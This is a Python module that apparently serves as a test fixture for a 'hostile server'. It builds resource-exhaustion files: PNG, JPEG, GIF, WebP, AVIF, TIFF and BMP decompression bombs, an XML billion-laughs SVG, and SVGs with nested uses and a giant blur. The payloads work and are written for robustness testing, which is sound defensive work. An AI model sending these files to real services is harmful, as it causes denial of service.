"""Bombs for the hostile server: small files that promise, or really hold, far too much."""

import struct
import zlib
from functools import cache
from itertools import pairwise

from .hostile_pictures import chunk, jpeg, pillow, png, svg


@cache
def zeros(count: int) -> bytes:
    """Return ``count`` zero bytes compressed with zlib: a thousandth of that."""
    press = zlib.compressobj(9)
    block = bytes(1 << 20)
    parts = [press.compress(block) for _ in range(count >> 20)]
    return b"".join([*parts, press.compress(bytes(count & 0xFFFFF)), press.flush()])


def png_bomb() -> bytes:
    """Return 30,000 x 30,000 pixels in 110 KB, all of them really there."""
    return png(30_000, 30_000, 1, zeros(30_000 * 3751))


def png_large() -> bytes:
    """Return 64 million pixels, just as many as are read, in 9 KB."""
    return png(8_000, 8_000, 1, zeros(8_000 * 1001))


def png_overfull() -> bytes:
    """Return a PNG of 64 x 48 whose data inflate to 256 MB."""
    return png(64, 48, 8, zeros(1 << 28))


def png_profile_bomb() -> bytes:
    """Return a small PNG with a colour profile that inflates to 256 MB."""
    profile = chunk(b"iCCP", b"p\0\0" + zeros(1 << 28))
    return png(64, 48, 8, zlib.compress(bytes(65 * 48)), profile)


def png_text_bomb() -> bytes:
    """Return a small PNG with a comment that inflates to 256 MB."""
    text = chunk(b"zTXt", b"Comment\0\0" + zeros(1 << 28))
    return png(64, 48, 8, zlib.compress(bytes(65 * 48)), text)


def jpeg_header_bomb() -> bytes:
    """Return the sound JPEG with 65,500 x 65,500 in its frame header."""
    whole = jpeg()
    at = whole.index(b"\xff\xc0") + 5
    return whole[:at] + struct.pack(">HH", 65_500, 65_500) + whole[at + 4 :]


def jpeg_scan_bomb(side: int = 8_000) -> bytes:
    """Return a sound progressive JPEG of 64 million pixels in nearly 2,700 empty scans.

    Each coefficient is refined bit by bit, which the format allows; each scan walks every block.
    """
    blocks = (side // 8) ** 2
    code = b"\xff\xc4" + struct.pack(">H", 20)
    tables = code + b"\0\1" + bytes(15) + b"\0" + code + b"\x10\1" + bytes(15) + b"\xe0"
    frame = struct.pack(">BHHB", 8, side, side, 3) + b"\1\x11\0\2\x11\0\3\x11\0"
    quantiser = b"\xff\xdb" + struct.pack(">H", 67) + b"\0" + b"\1" * 64
    head = b"\xff\xd8" + quantiser + b"\xff\xc2" + struct.pack(">H", 17) + frame + tables
    dc = b"\xff\xda" + struct.pack(">H", 12) + b"\3\1\0\2\0\3\0" + b"\0\0\0"
    run = "0" + "1" * 14  # the one code, then 14 more bits: the next 32,767 blocks are done
    whole, rest = divmod(blocks, 32_767)
    bits = run * whole + "0" + f"{rest - 16_384:014b}" if rest >= 16_384 else run * (whole + 1)
    padded = bits + "1" * (-len(bits) % 8)
    data = int(padded, 2).to_bytes(len(padded) // 8, "big").replace(b"\xff", b"\xff\0")
    scans = [
        b"\xff\xda\0\x08\x01" + bytes([part, 0, at, at, (low + 1 if low < 13 else 0) << 4 | low])
        for at in range(1, 64)
        for low in range(13, -1, -1)
        for part in (1, 2, 3)
    ]
    empty = bytes(-(-blocks * 3 // 8))
    return head + dc + empty + b"".join(scan + data for scan in scans) + b"\xff\xd9"


def gif_bomb() -> bytes:
    """Return a GIF whose screen is 65,535 x 65,535."""
    whole = pillow("GIF", "P")
    return whole[:6] + b"\xff\xff\xff\xff" + whole[10:]


def gif_frame_bomb(side: int = 13_000) -> bytes:
    """Return a GIF with a screen of 64 x 48 and on it 13,000 x 13,000 pixels, all really there.

    Each code of an LZW stream of one colour stands for one pixel more than the one before.
    """
    left, codes = side * side, []
    while left > 0:
        codes.append((4, 3))  # begin anew
        for number in range(4_090):
            size = max(3, (number + 4).bit_length())
            codes.append((0 if number == 0 else number + 5, min(size, 12)))
            left -= number + 1
            if left <= 0:
                break
    codes.append((5, codes[-1][1]))
    bits = "".join(f"{code:0{size}b}"[::-1] for code, size in codes)
    padded = (bits + "0" * (-len(bits) % 8))[::-1]
    data = int(padded, 2).to_bytes(len(padded) // 8, "little")
    blocks = [data[at : at + 255] for at in range(0, len(data), 255)]
    body = b"".join(bytes([len(block)]) + block for block in blocks)
    screen = struct.pack("<HHBBB", 64, 48, 0x81, 0, 0) + bytes(range(12))
    return b"GIF89a" + screen + struct.pack("<BHHHHBB", 44, 0, 0, side, side, 0, 2) + body + b"\0;"


def webp_bomb() -> bytes:
    """Return a WebP header that promises 16,384 x 16,384 lossless pixels."""
    data = b"\x2f" + struct.pack("<I", 16_383 | 16_383 << 14) + bytes(64)
    part = b"VP8L" + struct.pack("<I", len(data)) + data + bytes(len(data) % 2)
    return b"RIFF" + struct.pack("<I", 4 + len(part)) + b"WEBP" + part


def webp_frame_bomb() -> bytes:
    """Return a WebP with a canvas of 64 x 48 and a bitstream that promises 16,384 x 16,384."""
    canvas = b"VP8X" + struct.pack("<I", 10) + bytes(4) + bytes([63, 0, 0, 47, 0, 0])
    inner = canvas + webp_bomb()[12:]
    return b"RIFF" + struct.pack("<I", 4 + len(inner)) + b"WEBP" + inner


def avif_bomb() -> bytes:
    """Return the sound AVIF with 30,000 x 30,000 in its image spatial extents."""
    whole = pillow("AVIF")
    at = whole.index(b"ispe") + 8
    return whole[:at] + struct.pack(">II", 30_000, 30_000) + whole[at + 8 :]


def tiff_bomb() -> bytes:
    """Return a TIFF header that promises 100,000 x 100,000 pixels."""
    size = [(256, 4, 1, 100_000), (257, 4, 1, 100_000), (258, 3, 1, 8), (259, 3, 1, 1)]
    entries = [*size, (262, 3, 1, 1), (273, 4, 1, 8), (278, 4, 1, 100_000), (279, 4, 1, 99)]
    body = b"".join(struct.pack("<HHII", *entry) for entry in entries)
    return b"II*\0" + struct.pack("<IH", 8, len(entries)) + body + bytes(4)


def bmp_bomb() -> bytes:
    """Return a BMP header that promises 2 billion pixels a side."""
    whole = pillow("BMP")
    return whole[:18] + struct.pack("<ii", 2**31 - 1, -(2**31)) + whole[26:]


def svg_laughs() -> bytes:
    """Return the billion laughs: ten entities, each ten times the one before."""
    lines = ['<!ENTITY a "ha">']
    for before, name in pairwise("abcdefghij"):
        ten = f"&{before};" * 10
        lines.append(f'<!ENTITY {name} "{ten}">')
    entities = "".join(lines)
    return svg("<text>&j;</text>", f"<!DOCTYPE svg [{entities}]>")


def svg_uses(levels: int = 12) -> bytes:
    """Return groups that draw ten of the group before: 10 ** ``levels`` rectangles."""
    groups = ['<g id="g0"><rect width="9" height="9"/></g>']
    for below in range(levels - 1):
        ten = f'<use xlink:href="#g{below}"/>' * 10
        groups.append(f'<g id="g{below + 1}">{ten}</g>')
    return svg(f'<defs>{"".join(groups)}</defs><use xlink:href="#g{levels - 1}"/>')


def svg_blur() -> bytes:
    """Return a filter that wants a picture of a billion pixels a side."""
    region = 'x="-1e9" y="-1e9" width="2e9" height="2e9" filterUnits="userSpaceOnUse"'
    blur = f'<filter id="f" {region}><feGaussianBlur stdDeviation="1e8"/></filter>'
    return svg(f'{blur}<rect width="64" height="48" filter="url(#f)"/>')
